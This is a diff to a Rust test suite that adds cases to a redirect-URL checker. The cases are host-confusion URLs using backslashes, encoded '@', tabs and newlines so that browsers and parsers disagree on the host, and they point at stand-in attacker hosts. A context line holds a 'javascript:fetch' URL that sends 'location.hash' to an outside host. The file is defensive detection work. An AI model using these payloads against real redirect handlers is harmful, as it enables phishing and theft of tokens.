@@ -340,6 +340,49 @@ fn redirect_checks() {
         ),
         (Some("https://build.contoso.com@collect.evil.example/cb"), None, Tier::Low, &[("redirect.userinfo", Caution)]),
         (Some("not a url"), None, Tier::Low, &[("redirect.unreadable", Caution)]),
+        // Written so that browsers and servers read different hosts: a backslash (a browser reads a
+        // path, a literal parser a user name before pages.dev), encoded `\` and `@`, a tab or line
+        // break browsers drop, an `@` after a backslash, backslashes for the two slashes.
+        (
+            Some("https://ci.contoso.com\\@ci-artifacts.pages.dev/cb"),
+            None,
+            Tier::Critical,
+            &[("redirect.ambiguous-host", Caution)],
+        ),
+        (
+            Some("https://ci.contoso.com%5C%40ci-artifacts.pages.dev/cb"),
+            None,
+            Tier::Critical,
+            &[("redirect.ambiguous-host", Caution)],
+        ),
+        (
+            Some("https://ci.contoso.com%40ci-artifacts.pages.dev/cb"),
+            None,
+            Tier::Low,
+            &[("redirect.ambiguous-host", Caution)],
+        ),
+        (
+            Some("https://ci.contoso.com\t.ci-artifacts.pages.dev/cb"),
+            None,
+            Tier::Low,
+            &[("redirect.ambiguous-host", Caution), ("redirect.content-host", Caution)],
+        ),
+        (
+            Some("https://ci.contoso.com\n@ci-artifacts.pages.dev/cb"),
+            None,
+            Tier::Low,
+            &[("redirect.ambiguous-host", Caution), ("redirect.userinfo", Caution), ("redirect.content-host", Caution)],
+        ),
+        (Some("ht\ttps://ci.contoso.com/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
+        (Some("https://ci.contoso.com\\x\\@evil.example/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
+        (Some("https:\\\\ci.contoso.com/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
+        (Some("http://localhost\\@collect.evil.example/cb"), None, Tier::Low, &[("redirect.ambiguous-host", Caution)]),
+        // Look-alikes that are plain: `@` only in the query or the fragment, encoded characters and a
+        // backslash in the path.
+        (Some("https://build.contoso.com/cb?next=ops@contoso.com"), None, Tier::Critical, &[]),
+        (Some("https://build.contoso.com/cb#user@contoso.com"), None, Tier::Critical, &[]),
+        (Some("https://build.contoso.com/cb%20done/%40team%5Cx"), None, Tier::Critical, &[]),
+        (Some("https://build.contoso.com/a\\b?x=%5C%40"), None, Tier::Critical, &[]),
         (
             Some("javascript:fetch('//collect.example/'+location.hash)"),
             None,
